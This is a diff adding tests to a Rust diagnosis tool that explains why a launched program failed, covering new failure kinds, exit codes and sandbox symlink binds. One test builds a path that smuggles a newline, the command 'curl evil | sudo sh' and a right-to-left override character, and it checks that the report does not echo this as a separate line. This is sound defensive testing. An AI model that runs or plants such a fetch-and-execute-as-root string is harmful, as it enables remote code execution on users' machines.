@@ -44,6 +44,22 @@ fn what_the_launcher_found_is_all_that_is_said() {
         (ProgramProblem::NotExecutable { path: path.clone(), mode: 0o644 }, "EX03"),
         (ProgramProblem::IsDirectory(path.clone()), "EX03"),
         (ProgramProblem::Noexec(path.clone()), "EX03"),
+        (ProgramProblem::NotAFile(path.clone()), "EX03"),
+        (ProgramProblem::Busy(path.clone()), "EX03"),
+        (ProgramProblem::InterpreterLoop(path.clone()), "EX03"),
+        (
+            ProgramProblem::NotSearchable { path: path.clone(), directory: "/usr/bin".into(), mode: 0o600 },
+            "EX03",
+        ),
+        (ProgramProblem::LinkLoop(path.clone()), "EX02"),
+        (ProgramProblem::NameTooLong(path.clone()), "EX02"),
+        (
+            ProgramProblem::DanglingLink { path: path.clone(), link: path.clone(), target: "/opt/x".into() },
+            "EX02",
+        ),
+        (ProgramProblem::CarriageReturn { path: path.clone(), interpreter: "/bin/sh\r".into() }, "EX01"),
+        (ProgramProblem::ShellMissing(path.clone()), "EX01"),
+        (ProgramProblem::BadLoader { path: path.clone(), interpreter: "/bin/x".into() }, "EX04"),
         (ProgramProblem::WrongArchitecture { path, machine: 183 }, "EX04"),
     ];
     for (problem, code) in cases {
@@ -54,6 +70,53 @@ fn what_the_launcher_found_is_all_that_is_said() {
         assert_eq!(diagnosis.causes[0].confidence, Confidence::High);
         assert!(!diagnosis.causes[0].remedies.is_empty() && !diagnosis.causes[0].refuted_by.is_empty());
     }
+}
+
+/// Whoever wrote the program chose these names.
+#[test]
+fn names_in_a_file_are_no_lines_of_a_report() {
+    let evil = || PathBuf::from("/usr/lib/x\n     curl evil | sudo sh\n\u{202e}");
+    for problem in [
+        ProgramProblem::LoaderMissing { path: evil(), interpreter: evil() },
+        ProgramProblem::InterpreterMissing { path: evil(), interpreter: evil() },
+        ProgramProblem::CarriageReturn { path: evil(), interpreter: evil() },
+        ProgramProblem::DanglingLink { path: evil(), link: evil(), target: evil() },
+        ProgramProblem::NotSearchable { path: evil(), directory: evil(), mode: 0 },
+        ProgramProblem::NotFound { program: evil(), searched: vec![evil()] },
+        ProgramProblem::NotExecutable { path: evil(), mode: 0 },
+        ProgramProblem::IsDirectory(evil()),
+        ProgramProblem::NotAFile(evil()),
+        ProgramProblem::Noexec(evil()),
+        ProgramProblem::Busy(evil()),
+        ProgramProblem::LinkLoop(evil()),
+        ProgramProblem::NameTooLong(evil()),
+        ProgramProblem::InterpreterLoop(evil()),
+        ProgramProblem::ShellMissing(evil()),
+        ProgramProblem::BadLoader { path: evil(), interpreter: evil() },
+        ProgramProblem::WrongArchitecture { path: evil(), machine: 8 },
+    ] {
+        let report = found(problem).to_string();
+        assert!(!report.lines().any(|line| line.trim_start().starts_with("curl")), "{report}");
+    }
+}
+
+#[test]
+fn a_link_is_followed_where_it_is_the_same_on_the_host() {
+    let link = |bound: &str| {
+        let problem = ProgramProblem::DanglingLink {
+            path: "/usr/bin/x".into(),
+            link: "/usr/bin/x".into(),
+            target: "/etc/alternatives/x".into(),
+        };
+        let text = b"bwrap: execvp /usr/bin/x: No such file or directory\n";
+        let mut symptom = Symptom { verdict: Verdict::NotExecuted, ..Symptom::from_text(text) };
+        symptom.program = Some(problem);
+        let diagnosis = diagnose(&symptom, &machine(), Some(&Sandbox::new().ro_bind(bound, "/usr")));
+        diagnosis.causes[0].remedies[0].action.clone()
+    };
+    let bind = SandboxChange::RoBind { path: "/etc/alternatives/x".into() };
+    assert_eq!(link("/usr"), Action::Sandbox(bind));
+    assert!(matches!(link("/srv/root/usr"), Action::Manual(_)));
 }
 
 #[test]
